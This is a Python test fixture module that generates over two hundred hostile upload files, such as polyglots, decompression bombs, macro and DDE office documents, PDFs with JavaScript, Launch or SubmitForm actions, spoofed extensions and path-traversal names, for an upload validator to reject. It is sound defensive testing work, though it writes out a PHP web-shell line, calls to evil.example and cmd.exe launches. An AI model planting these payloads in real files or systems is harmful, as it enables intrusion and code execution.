"""Files that enemies send, more than two hundred of them, family by family, each with the reason of its refusal."""

from __future__ import annotations

import struct
import tempfile
import unicodedata
import zlib
from dataclasses import dataclass
from functools import cache
from io import BytesIO
from typing import TYPE_CHECKING

import pikepdf
from django.core.files.base import ContentFile, File
from PIL import Image

from tests.cases import papers
from tests.cases.office_files import MAIN, office, packed, relations, types
from tests.cases.swollen import swollen_pdf

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-" rb"FILE!$H+H*"
"""What every virus scanner knows as its test; it harms nobody. Written in two parts, so that no scanner stops at us."""
MEGABYTE = 1024 * 1024
ENDINGS = {"pdf": ".pdf", "docx": ".docx", "xlsx": ".xlsx", "png": ".png", "jpeg": ".jpg"}


@dataclass(frozen=True)
class Hostile:
    """One file: its name, what is in it, and the code of the reason for which it is refused."""

    name: str
    make: Callable[[], bytes | File[bytes]]
    code: str

    def opened(self) -> File[bytes]:
        """The file as it arrives."""
        content = self.make()
        return ContentFile(content) if isinstance(content, bytes) else content


def _given(name: str, content: bytes, code: str) -> Hostile:
    return Hostile(name, lambda: content, code)


def picture(kind: str = "png", size: tuple[int, int] = (8, 8)) -> bytes:
    """A plain picture."""
    stream = BytesIO()
    Image.new("RGB", size, "white").save(stream, kind.upper())
    return stream.getvalue()


def plain() -> dict[str, bytes]:
    """A good file of each kind."""
    return {
        "pdf": papers.pdf(),
        "docx": office("docx"),
        "xlsx": office("xlsx"),
        "png": picture("png"),
        "jpeg": picture("jpeg"),
    }


def foreign() -> dict[str, bytes]:
    """What is glued to a good file to make two of one."""
    return {
        "page": b"<!doctype html><script>alert(document.domain)</script>" + b"<p>" * 400,
        "program": b"MZ\x90\x00" + b"\x00" * 400 + b"This program cannot be run in DOS mode.",
        "archive": packed({"Evil.class": b"\xca\xfe\xba\xbe" * 20}),
        "animation": b"GIF89a" + b"\x01\x00\x01\x00\x00\x00\x00" * 60,
        "server page": b"<?php system($_GET['c']); ?>" * 40,
    }


def polyglots() -> Iterator[Hostile]:
    """Two files in one: another behind, before, or inside a good one."""
    for kind, good in plain().items():
        for what, other in foreign().items():
            yield _given(f"{what} behind{ENDINGS[kind]}", good + other, "polyglot")
            first = "polyglot" if what == "archive" else "kind"
            is_torn = what == "archive" and kind in {"png", "jpeg", "pdf"}
            yield _given(f"{what} before{ENDINGS[kind]}", other + good, "polyglot" if is_torn else first)
    for kind in ("docx", "xlsx"):
        inside = office(kind, parts={"%PDF-1.4": b"%PDF-1.4"})
        yield _given(f"also a pdf{ENDINGS[kind]}", inside, "polyglot")


def bombs() -> Iterator[Hostile]:
    """Small files that become enormous."""
    zeros = bytes(8 * MEGABYTE)
    for kind in ("docx", "xlsx"):
        for part in ("word/media/image1.png", "customXml/item1.xml", "docProps/app.xml", "xl/sheet1.xml"):
            yield Hostile(f"bomb {part[-5:]}{ENDINGS[kind]}", cache(_bomb(kind, part, zeros)), "bomb")
        many = {f"p/{number}.xml": "" for number in range(2001)}
        yield Hostile(
            f"crowd{ENDINGS[kind]}", cache(lambda kind=kind, many=many: office(kind, parts=many)), "bomb"
        )
        yield Hostile(f"overlap{ENDINGS[kind]}", cache(lambda kind=kind: _overlapping(kind)), "bomb")
        yield Hostile(f"lies{ENDINGS[kind]}", cache(lambda kind=kind: _lying(kind)), "damaged")
        slow = relations() + "<a/>" * 100_000
        lists = {f"word/_rels/{number}.rels": slow for number in range(4)}
        yield Hostile(
            f"lists{ENDINGS[kind]}", cache(lambda kind=kind, lists=lists: office(kind, parts=lists)), "bomb"
        )
    for width in (20_000, 50_000, 100_000, 2_000_000):
        yield Hostile(f"{width}.png", cache(lambda width=width: _promising_png(width)), "pixels")
    yield Hostile("swollen.png", cache(_swollen_png), "bomb")
    yield Hostile("rows of pictures.jpg", cache(lambda: picture("jpeg") * 2000), "polyglot")
    yield Hostile("no end.jpg", cache(lambda: picture("jpeg")[:-2] + b"\xff" * 2 * MEGABYTE), "damaged")
    yield Hostile("crowd.pdf", cache(_crowded_pdf), "bomb")
    for filters in (1, 2):
        yield Hostile(
            f"objects {filters}.pdf", cache(lambda filters=filters: swollen_pdf(filters)), "damaged"
        )


def _bomb(kind: str, part: str, content: bytes) -> Callable[[], bytes]:
    return lambda: office(kind, parts={part: content})


def _overlapping(kind: str) -> bytes:
    """Two entries of the listing lead to the same bytes."""
    good = office(kind)
    at = good.index(b"PK\x01\x02")
    end = good.index(b"PK\x05\x06")
    listing = good[at:end]
    second = listing.replace(b"_rels/.rels", b"_rels/.relt")
    entry = second[second.index(b"PK\x01\x02", 4) :]
    entry = entry[: entry.index(b"PK\x01\x02", 4)]
    whole = listing + entry
    count = struct.unpack_from("<H", good, end + 10)[0] + 1
    return good[:at] + whole + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(whole), at, 0)


def _lying(kind: str) -> bytes:
    """A part whose listing says it is smaller than it becomes."""
    good = office(kind, parts={"x.xml": "<p>" + "a" * 2000 + "</p>"})
    return good.replace(struct.pack("<I", 2007), struct.pack("<I", 100))


def _crowded_pdf() -> bytes:
    """A table that promises more objects than a document has."""
    good = papers.pdf()
    size = int(good.split(b"/Size ")[1].split()[0])
    return good.replace(b"/Size %d" % size, b"/Size %d" % 9_000_000)


def _png(width: int, data: bytes) -> bytes:
    def chunk(name: bytes, content: bytes) -> bytes:
        checked = name + content
        return struct.pack(">I", len(content)) + checked + struct.pack(">I", zlib.crc32(checked))

    head = struct.pack(">2I5B", width, width, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _promising_png(width: int) -> bytes:
    return _png(width, zlib.compress(bytes(1000)))


def _swollen_png() -> bytes:
    return _png(8, zlib.compress(bytes(30 * MEGABYTE)))


def documents_that_act() -> Iterator[Hostile]:
    """Macros, controls, templates from elsewhere, scripts, programs inside."""
    for kind in ("docx", "xlsx"):
        yield from (
            _given(f"{number}{ENDINGS[kind]}", content, code)
            for number, (content, code) in enumerate(_acting(kind))
        )
    yield from (
        _given(f"action {number}.pdf", content, code) for number, (content, code) in enumerate(_acting_pdfs())
    )


def _acting(kind: str) -> Iterator[tuple[bytes, str]]:
    place, main = MAIN[kind]
    folder = place.split("/")[0]
    rels = f"{folder}/_rels/{place.split('/')[1]}.rels"

    def having(**parts: str | bytes) -> bytes:
        return office(
            kind,
            parts={name.replace("__", "/").replace("_dot_", "."): value for name, value in parts.items()},
        )

    yield office(kind, parts={f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macros"
    yield office(kind, parts={f"{folder}/VBAPROJECT.BIN": b"x"}), "macros"
    yield office(kind, parts={f"{folder}/activeX/activeX1.xml": "<x/>"}), "macros"
    for name in (
        "ms-word.document.macroEnabled.main",
        "ms-excel.sheet.macroEnabled.main",
        "ms-word.template.macroEnabledTemplate.main",
    ):
        content = types(f"application/vnd.{name}+xml")
        yield office(kind, parts={"[Content_Types].xml": content}), "macros"
    yield (
        office(kind, parts={"[Content_Types].xml": types(main, "application/vnd.ms-office.vbaProject")}),
        "macros",
    )
    yield office(kind, parts={f"{folder}/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "embedded"
    yield office(kind, parts={f"{folder}/embeddings/Sheet1.xlsx": office("xlsx")}), "embedded"
    yield office(kind, parts={f"{folder}/media/run.exe": b"MZ"}), "embedded"
    yield office(kind, parts={f"{folder}/media/image1.png": b"MZ\x90" + bytes(64)}), "embedded"
    for relation in ("attachedTemplate", "oleObject", "image", "frame", "externalLinkPath"):
        listed = relations(relation, "http://evil.example/a.dotm", "External")
        yield office(kind, parts={rels: listed}), "outside"
    yield office(kind, parts={f"{folder}/externalLinks/externalLink1.xml": "<x/>"}), "outside"
    yield (
        office(kind, parts={place: '<p><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></p>'}),
        "active",
    )
    yield office(kind, parts={place: '<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'}), "active"
    yield office(kind, parts={place: "<a/>".encode("utf-16")}), "active"
    yield office(kind, parts={"../../evil.xml": "<a/>"}), "polyglot"


def _acting_pdfs() -> Iterator[tuple[bytes, str]]:
    name = pikepdf.Name
    dictionary = pikepdf.Dictionary
    script = {"S": name.JavaScript, "JS": "app.alert(1)"}
    actions = [
        script,
        {"S": name.Launch, "F": "cmd.exe"},
        {"S": name.SubmitForm, "F": "http://evil.example"},
        {"S": name.ImportData, "F": "a.fdf"},
        {"S": name.RichMediaExecute},
    ]
    for action in actions:
        for place in (_on_open, _on_page, _on_annotation, _after_another):
            yield (
                papers.built(
                    lambda document, place=place, action=action: place(document, dictionary(**action))
                ),
                "active",
            )
    yield papers.built(_named_script), "active"
    yield papers.built(_dynamic_form), "active"
    for attached, content in (
        ("run.exe", b"MZ"),
        ("a.js", b"x"),
        ("a.zip", b"PK\x03\x04"),
        ("data.txt", b"MZ\x90\x00"),
        ("data.xml", b"PK\x03\x04" + bytes(30)),
        ("eicar.com", EICAR),
    ):
        yield (
            papers.built(
                lambda document, attached=attached, content=content: attach_data(document, attached, content)
            ),
            "attached",
        )
    yield papers.encrypted_pdf(), "encrypted"
    yield papers.restricted_pdf(), "encrypted"


def _on_open(document: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    document.Root.OpenAction = document.make_indirect(action)


def _on_page(document: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    document.pages[0].obj.AA = pikepdf.Dictionary(O=action)


def _on_annotation(document: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    document.pages[0].obj.Annots = pikepdf.Array([note])


def _after_another(document: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    first = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0]), Next=pikepdf.Array([action]))
    document.Root.OpenAction = document.make_indirect(first)


def _named_script(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=document.make_stream(b"app.alert(1)"))
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", action]))
    )


def _dynamic_form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(b"<xdp/>"))


def attach_data(document: pikepdf.Pdf, name: str, content: bytes) -> None:
    """Put a file into a PDF."""
    document.attachments[name] = pikepdf.AttachedFileSpec(
        document, content, filename=name, description="", mime_type="", creation_date="", mod_date=""
    )


def wrong_endings() -> Iterator[Hostile]:
    """A good content under the name of another."""
    endings = (".pdf", ".docx", ".xlsx", ".png", ".jpg", ".exe", ".html", ".svg")
    for kind, good in plain().items():
        for ending in endings:
            if ending != ENDINGS[kind]:
                yield _given(f"hồ sơ {kind}{ending}", good, "ending")
    yield _given("hợp đồng.pdf.exe", papers.pdf(), "ending")
    for name, content in {
        "a.pdf": b"plain text",
        "b.docx": papers.page_in_disguise(),
        "c.png": b"<svg onload=alert(1)/>",
        "d.xlsx": b"a,b\n1,2",
        "e.pdf": b"#!/bin/sh\n",
        "f.pdf": b"MZ\x90\x00" * 9,
        "g.docx": packed({"a.txt": "a"}),
        "h.jpg": b"GIF89a" + bytes(20),
    }.items():
        yield _given(name, content, "kind")
    yield _given("cũ.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_office")


def empty() -> Iterator[Hostile]:
    """Nothing at all, under every name."""
    yield from (_given(f"trống{ending}", b"", "empty") for ending in (*ENDINGS.values(), "", ".exe"))


def enormous() -> Iterator[Hostile]:
    """Three hundred megabytes that begin as something good."""
    for kind, good in plain().items():
        yield Hostile(f"lớn{ENDINGS[kind]}", lambda good=good: _sparse(good), "too_large")


def _sparse(head: bytes) -> File[bytes]:
    file = tempfile.TemporaryFile()  # noqa: SIM115 - whoever takes it in closes it
    file.write(head)
    file.truncate(300 * MEGABYTE)
    return File(file, name="large")


def leading_names() -> Iterator[Hostile]:
    """Names that lead elsewhere or hide what they are."""
    for name in (
        "../a.pdf", "../../etc/passwd", "..\\..\\boot.ini", "a/../../b.pdf", "/../../x.pdf", "C:\\..\\a.pdf", "..\\a.pdf", "./../a.pdf",
        "a\x00.pdf", "a\r\nX-Header: 1.pdf", "a\n.pdf", "\x1b[2J.pdf", "a\x7f.pdf", "a\u202efdp.exe", "\u202dgiấy.pdf",
        "a\u2066b.pdf", "a\u200fb.pdf", "hồ sơ\t.pdf", "a\x85.pdf", "\x00", "../", "..\\",
    ):  # fmt: skip
        yield _given(name, papers.pdf(), "name")


def decomposed_names() -> Iterator[Hostile]:
    """Vietnamese names written letter by letter and mark by mark, around what is not what they say."""
    for stem in ("Đơn đăng ký", "Hồ sơ thử nghiệm", "Kế hoạch xử lý rủi ro", "Giấy phép", "Bảo hiểm"):
        for ending in (".exe", ".docx", ".html"):
            yield _given(unicodedata.normalize("NFD", stem) + ending, papers.pdf(), "ending")
        yield _given(unicodedata.normalize("NFD", stem) + ".pdf", papers.page_in_disguise(), "kind")
        yield _given("../" + unicodedata.normalize("NFD", stem) + ".pdf", papers.pdf(), "name")


def eicar_files() -> Iterator[Hostile]:
    """The scanners' test as it is, renamed, and glued to something good."""
    for name in ("eicar.com", "eicar.txt", "eicar.pdf", "eicar.docx", "hồ sơ.png"):
        yield _given(name, EICAR, "kind")
    for kind, good in plain().items():
        yield _given(f"eicar behind{ENDINGS[kind]}", good + EICAR, "polyglot")


def once(family: Callable[[], Iterator[Hostile]]) -> Callable[[], tuple[Hostile, ...]]:
    """The same files at each call, so that what is dear to make is made once."""
    return cache(lambda: tuple(family()))


FAMILIES: dict[str, Callable[[], tuple[Hostile, ...]]] = {
    "polyglots": once(polyglots),
    "bombs": once(bombs),
    "documents that act": once(documents_that_act),
    "wrong endings": once(wrong_endings),
    "empty": once(empty),
    "enormous": once(enormous),
    "names that lead elsewhere": once(leading_names),
    "decomposed names": once(decomposed_names),
    "test viruses": once(eicar_files),
}
